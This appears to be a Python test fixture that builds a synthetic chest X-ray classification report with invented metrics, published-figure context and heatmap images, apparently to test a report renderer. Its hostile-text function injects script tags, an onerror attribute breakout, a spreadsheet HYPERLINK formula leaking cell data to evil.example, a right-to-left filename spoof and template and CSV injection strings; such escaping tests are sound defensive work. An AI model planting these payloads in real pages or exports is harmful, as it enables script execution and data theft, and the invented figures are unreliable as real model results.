"""A whole report of invented figures, with every part that a page can show."""

import copy
import math
from pathlib import Path

import numpy as np
from PIL import Image
from sklearn.metrics import (
    average_precision_score,
    precision_recall_curve,
    roc_auc_score,
    roc_curve,
)

METRICS = (
    'auroc', 'average_precision', 'f1', 'kappa', 'accuracy', 'precision', 'recall',
    'specificity', 'brier', 'ece',
)  # fmt: skip
FIVE = ('Atelectasis', 'Cardiomegaly', 'Consolidation', 'Edema', 'Pleural Effusion')
# Label -> share of positives, and how well its positives are told from its negatives.
LABELS = {
    'No Finding': (0.13, 1.7),
    'Enlarged Cardiomediastinum': (0.5, 0.6),
    'Cardiomegaly': (0.3, 1.5),
    'Lung Opacity': (0.55, 1.8),
    'Lung Lesion': (0.016, 0.9),
    'Edema': (0.17, 1.9),
    'Consolidation': (0.06, 1.8),
    'Pneumonia': (0.024, 1.1),
    'Atelectasis': (0.3, 1.2),
    'Pneumothorax': (0.02, 1.6),
    'Pleural Effusion': (0.22, 2.0),
    'Pleural Other': (0.01, 1.3),
    'Fracture': (0.012, 0.7),
    'Support Devices': (0.5, 1.9),
}
RADIOLOGISTS = {
    'Atelectasis': [(0.787, 0.804), (0.824, 0.712), (0.686, 0.922)],
    'Cardiomegaly': [(0.954, 0.477), (0.768, 0.854), (0.894, 0.702)],
    'Consolidation': [(0.890, 0.655), (0.911, 0.483), (0.966, 0.448)],
    'Edema': [(0.915, 0.628), (0.813, 0.795), (0.927, 0.577)],
    'Pleural Effusion': [(0.947, 0.817), (0.826, 0.827), (0.864, 0.894)],
}
SCRIPT = '<script>window.hacked = 1; alert(1)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_LABEL = '"><img src=x onerror="window.hacked=1"> Support. Dev\u2019s 100%'
RIGHT_TO_LEFT = '\u202egnp.exe \u05e9\u05dc\u05d5\u05dd'
LONG_PATH = 'CheXpert-v1.0-small/' + 'a_very_long_folder_name_without_a_break/' * 8 + 'view1.jpg'
NOTHING = {'value': math.nan, 'low': math.nan, 'high': math.nan}


def example_report(folder: Path | None, *, hostile: bool = True) -> dict:
    """A report of two sets; its maps are written below `folder`, if there is one."""
    rng = np.random.default_rng(0)
    sets = [
        _set(rng, 'valid', rows=200, undefined=['Fracture']),
        _set(rng, 'test', rows=500, undefined=[], radiologists=RADIOLOGISTS),
    ]
    five = sets[1]['means']['five']
    report = {
        'format': 1,
        'title': 'Chest X-ray classification report',
        'run': [
            {'name': name, 'value': value}
            for name, value in (
                ('Task', 'observations'),
                ('Model', 'swin, 192 px; simmim_finetune__swin_nano__img192__100ep'),
                ('Started from', 'output/simmim_pretrain__swin_nano/run1/ckpt_epoch_99.pth'),
                ('Data', 'data/CheXpert-v1.0-small (chexpert), 100% of the training patients'),
                ('Uncertain labels', 'ones (Consolidation: zeros)'),
                ('Seed', '0'),
            )
        ],
        'headline': {
            'set': 'test',
            'name': 'Mean AUROC of the five CheXpert tasks',
            'score': five['auroc'],
            **{key: sets[1][key] for key in ('rows', 'patients', 'level', 'views')},
            'note': 'one of its labels has 30 positives only: a weak estimate',
        },
        'not_comparable': (
            'Published figures were made on other splits, views, label policies or with '
            'ensembles, and are context, not a comparison. Differences smaller than the '
            'intervals show nothing.'
        ),
        'published': [
            {
                'name': 'U-Ones, ensemble (Irvin et al. 2019, Table 3)',
                'values': dict(zip(FIVE, (0.858, 0.832, 0.899, 0.941, 0.934), strict=True)),
                'note': 'context only: 200 validation studies, an ensemble of checkpoints',
            },
            {
                'name': 'Swin-B, SimMIM ImageNet (Ma et al. 2022)',
                'values': {'Mean of the five': 0.8816},
                'note': 'context only: split and level not stated',
            },
        ],
        'warnings': [
            'valid: without both classes, not scored: Fracture',
            'test: fewer than 20 positives: Lung Lesion (8), Pneumonia (12), Pneumothorax (10), '
            'Pleural Other (5), Fracture (6)',
        ],
        'sets': sets,
        'comparisons': [_comparison(rng)],
        'training': _training(rng),
        'maps': _maps(rng, folder) if folder else [],
        'maps_check': {
            'method': 'Grad-CAM',
            'similarity': 0.0713,
            'note': 'rank correlation with the maps of random weights: near 0 is wanted',
        },
    }
    return _with_hostile_text(report) if hostile else report


def single_label_report() -> dict:
    """The least that a report holds: a binary task, one class only, nothing optional."""
    report = example_report(None, hostile=False)
    report |= dict.fromkeys(('published', 'warnings', 'comparisons', 'maps'), [])
    report |= {'training': None, 'maps_check': None}
    entry = report['sets'][0]
    label = next(part for part in entry['labels'] if part['label'] == 'Fracture')
    means = {'five': None, 'all': None, 'labels_with_both_classes': None}
    entry |= {
        'labels': [label],
        'means': {**means, 'undefined': ['Fracture']},
        'groups': [],
        'worst_errors': [],
        'uncertain': {},
    }
    name = {'set': 'valid', 'name': 'AUROC, Fracture', 'note': ''}
    report['headline'] |= {**name, 'score': NOTHING}
    return report | {'sets': [entry]}


def _score(value: float, n: int) -> dict[str, float]:
    half = 1.96 * math.sqrt(max(value * (1 - value), 1e-3) / max(n, 1))
    return {'value': value, 'low': max(0.0, value - half), 'high': min(1.0, value + half)}


def _mean(scores: list[dict[str, dict]]) -> dict[str, dict[str, float]]:
    return {
        metric: {
            key: float(np.mean([score[metric][key] for score in scores]))
            for key in ('value', 'low', 'high')
        }
        for metric in METRICS
    }


def _set(
    rng: np.random.Generator,
    name: str,
    *,
    rows: int,
    undefined: list[str],
    radiologists: dict | None = None,
) -> dict:
    labels = [
        _label(rng, label, rows, readers=(radiologists or {}).get(label, ()))
        if label not in undefined
        else _undefined(label, rows)
        for label in LABELS
    ]
    scores = {part['label']: part['scores'] for part in labels}
    defined = [label for label in LABELS if label not in undefined]
    columns = {'Sex': ('Female', 'Male'), 'Age': ('0-39', '40-59', '60-79', '80+')}
    return {
        'name': name,
        'rows': rows,
        'images': rows * 4 // 3,
        'patients': rows,
        'level': 'study',
        'aggregate': 'max',
        'views': 'frontal',
        'uncertain': {'Edema': 3, 'Atelectasis': 11},
        'labels': labels,
        'means': {
            'five': _mean([scores[label] for label in FIVE]),
            'all': None if undefined else _mean(list(scores.values())),
            'labels_with_both_classes': _mean([scores[label] for label in defined]),
            'undefined': undefined,
        },
        'groups': [_column(rng, name, groups, rows) for name, groups in columns.items()],
        'worst_errors': [
            {
                'label': label,
                'kind': kind,
                'path': f'CheXpert-v1.0-small/{name}/patient{64541 + i}/study1',
                'probability': float(rng.random()),
                'target': 1.0 if kind == 'false negative' else 0.0,
            }
            for i, label in enumerate(FIVE)
            for kind in ('false positive', 'false negative')
        ],
    }


def _undefined(label: str, rows: int) -> dict:
    scores = dict.fromkeys(METRICS, NOTHING)
    flat = {'x': [0.01, 0.05], 'y': [0.0, 0.0], 'count': [rows // 2, rows - rows // 2]}
    return {
        'label': label,
        'n': rows,
        'positives': 0,
        'threshold': math.nan,
        'temperature': math.nan,
        'scores': scores | {'brier': _score(0.004, rows), 'accuracy': _score(0.99, rows)},
        'scaled': {},
        'delong': None,
        'roc': None,
        'precision_recall': None,
        'calibration': {'raw': flat, 'scaled': None},
        'radiologists': [],
        'radiologists_below': None,
    }


def _label(rng: np.random.Generator, label: str, rows: int, *, readers: tuple) -> dict:
    share, distance = LABELS[label]
    positives = max(2, round(share * rows))
    targets = np.arange(rows) < positives
    logits = rng.normal(size=rows) + distance * targets - 2
    probabilities = 1 / (1 + np.exp(-1.6 * logits))
    fpr, tpr, _ = roc_curve(targets, probabilities)
    precision, recall, _ = precision_recall_curve(targets, probabilities)
    auroc = _score(roc_auc_score(targets, probabilities), 2 * positives)
    threshold = float(np.quantile(probabilities[targets], 0.2))
    above = probabilities >= threshold
    scores = {metric: _score(float(rng.uniform(0.4, 0.9)), rows // 4) for metric in METRICS}
    scores |= {
        'auroc': auroc,
        'average_precision': _score(average_precision_score(targets, probabilities), positives),
        'recall': _score(float(above[targets].mean()), positives),
        'specificity': _score(float(1 - above[~targets].mean()), rows - positives),
        'brier': _score(float(np.mean((probabilities - targets) ** 2)), rows),
        'ece': _score(0.05, rows),
    }
    below = [bool(np.interp(1 - spec, fpr, tpr) > sens) for spec, sens in readers]
    return {
        'label': label,
        'n': rows,
        'positives': positives,
        'threshold': threshold,
        'temperature': 1.6,
        'scores': scores,
        'scaled': {'brier': _score(0.08, rows), 'ece': _score(0.02, rows)},
        'delong': auroc if share > 0.02 else None,
        'roc': {'x': fpr.tolist(), 'y': tpr.tolist()},
        'precision_recall': {'x': recall[::-1].tolist(), 'y': precision[::-1].tolist()},
        'calibration': {
            'raw': _bins(probabilities, targets),
            'scaled': _bins(probabilities ** (1 / 1.6), targets),
        },
        'radiologists': [
            {'specificity': spec, 'sensitivity': sens, 'below': is_below}
            for (spec, sens), is_below in zip(readers, below, strict=True)
        ],
        'radiologists_below': sum(below) if readers else None,
    }


def _bins(probabilities: np.ndarray, targets: np.ndarray) -> dict[str, list]:
    parts = np.array_split(np.argsort(probabilities), 15)
    return {
        'x': [float(probabilities[part].mean()) for part in parts],
        'y': [float(targets[part].mean()) for part in parts],
        'count': [len(part) for part in parts],
    }


def _column(rng: np.random.Generator, name: str, groups: tuple[str, ...], rows: int) -> dict:
    entries = []
    for i, group in enumerate(groups):
        size = rows // (i + 2)
        labels = {}
        for label, (share, _) in LABELS.items():
            positives = round(share * size)
            score = _score(float(rng.uniform(0.65, 0.95)), positives) if positives else NOTHING
            labels[label] = {
                'n': size,
                'positives': positives,
                'few': positives < 20,
                'scores': dict.fromkeys(METRICS, score),
                'standardised_auroc': score if positives else None,
            }
        five = _score(float(rng.uniform(0.8, 0.92)), size)
        entries.append(
            {
                'group': group,
                'rows': size,
                'patients': size - i,
                'labels': labels,
                'means': {'five': None if group == '80+' else five, 'all_defined': five},
                'underdiagnosis': _score(0.1 + 0.07 * i, size) if i < 3 else None,
            }
        )
    gap = {'gap': {'value': 0.0612, 'low': -0.0123, 'high': 0.1291}}
    gap |= {'best': groups[-1], 'worst': groups[0]}
    gaps = {label: {**gap, 'few': label == 'Edema'} for label in FIVE}
    return {'column': name, 'groups': entries, 'gaps': gaps}


def _comparison(rng: np.random.Generator) -> dict:
    labels = {}
    for label in LABELS:
        value = float(rng.normal(0.01, 0.02))
        labels[label] = {
            'difference': {'value': value, 'low': value - 0.03, 'high': value + 0.025},
            'p_delong': float(rng.random()) if label != 'Fracture' else math.nan,
            'p_bootstrap': float(rng.random()),
            'p_holm': 0.0002 if label == 'Edema' else 1.0,
        }
    five = {'difference': {'value': 0.0142, 'low': 0.0021, 'high': 0.0263}, 'p_bootstrap': 0.018}
    report = {'set': 'test', 'a': 'pre-trained', 'b': 'from random weights', 'labels': labels}
    return report | {'means': {'five': five}}


def _training(rng: np.random.Generator) -> dict:
    epochs = np.arange(20)
    noise = rng.normal(scale=0.004, size=(3, 20))
    held_out = (0.3 + 0.25 * np.exp(-epochs / 3) + 0.001 * epochs + noise[1]).tolist()
    held_out[7] = math.nan
    return {
        'epochs': epochs,
        'curves': [
            {'name': 'Training loss', 'values': 0.25 + 0.4 * np.exp(-epochs / 4) + noise[0]},
            {'name': 'Loss on holdout', 'values': held_out},
            {'name': 'Mean AUROC on holdout', 'values': 0.88 - 0.3 * np.exp(-epochs / 3)},
        ],
    }


def _maps(rng: np.random.Generator, folder: Path) -> list[dict]:
    entries = []
    (folder / 'maps').mkdir(parents=True, exist_ok=True)
    for label in ('Edema', 'Pleural Effusion'):
        for kind in ('true positive', 'false positive', 'true negative', 'false negative'):
            file = f'maps/{label}_{kind}_1.png'.lower().replace(' ', '_')
            y, x = np.mgrid[-1:1:192j, -1:1:192j]
            grey = (
                40 + 160 * np.exp(-3 * (np.abs(x) - 0.45) ** 2 - y**2) + rng.normal(0, 6, y.shape)
            )
            heat = np.exp(-8 * ((x - rng.uniform(-0.5, 0.5)) ** 2 + (y - 0.3) ** 2))
            left = np.repeat(grey[..., None], 3, axis=2)
            right = (
                left * (1 - 0.6 * heat[..., None]) + heat[..., None] * np.array((250, 160, 0)) * 0.6
            )
            both = np.clip(np.concatenate([left, right], axis=1), 0, 255).astype(np.uint8)
            Image.fromarray(both).save(folder / file)
            entries.append(
                {
                    'label': label,
                    'kind': kind,
                    'path': 'CheXpert-v1.0-small/test/patient64741/study1/view1_frontal.jpg',
                    'probability': float(rng.random()),
                    'threshold': 0.31,
                    'file': file,
                }
            )
    return entries


def _with_hostile_text(report: dict) -> dict:
    """Markup, formulas, text from right to left and very long words wherever text can come in."""
    report = _renamed(report, 'Support Devices', HOSTILE_LABEL)
    report['title'] = f'Report {SCRIPT} </title></style>'
    report['run'] += [
        {'name': FORMULA, 'value': FORMULA},
        {'name': 'Direction', 'value': RIGHT_TO_LEFT},
        {'name': 'Template', 'value': '{{ 7 * 7 }} {% raw %}'},
        {'name': 'Long', 'value': 'x' * 300},
        {'name': 'Undecodable', 'value': 'image_\udce9.jpg'},
    ]
    report['warnings'] += [f'{SCRIPT}</li></ul><h1>Hello</h1>', 'w' * 200]
    report['headline']['note'] += f' {SCRIPT}'
    report['published'][0]['note'] += f' {SCRIPT}'
    first = report['sets'][1]
    names = (SCRIPT, FORMULA, RIGHT_TO_LEFT, 'g' * 120)
    for group, name in zip(first['groups'][1]['groups'], names, strict=True):
        group['group'] = name
    first['groups'][1]['column'] = f'@{SCRIPT}'
    paths = (LONG_PATH, RIGHT_TO_LEFT, FORMULA, '+1', '-1', '\t=1', '\r=1', SCRIPT)
    for error, path in zip(first['worst_errors'], paths, strict=False):
        error['path'] = path
    report['comparisons'][0] |= {'a': SCRIPT, 'b': '-b'}
    report['maps'][0]['path'] = LONG_PATH
    report['maps'][1]['kind'] = '" onerror="window.hacked=1'
    report['training']['curves'][0]['name'] = f'Training loss {SCRIPT}'
    return report


def _renamed(value: object, old: str, new: str) -> object:
    """A copy with a text replaced, in keys too."""
    if isinstance(value, dict):
        return {_renamed(key, old, new): _renamed(item, old, new) for key, item in value.items()}
    if isinstance(value, list):
        return [_renamed(item, old, new) for item in value]
    return new if isinstance(value, str) and value == old else copy.copy(value)
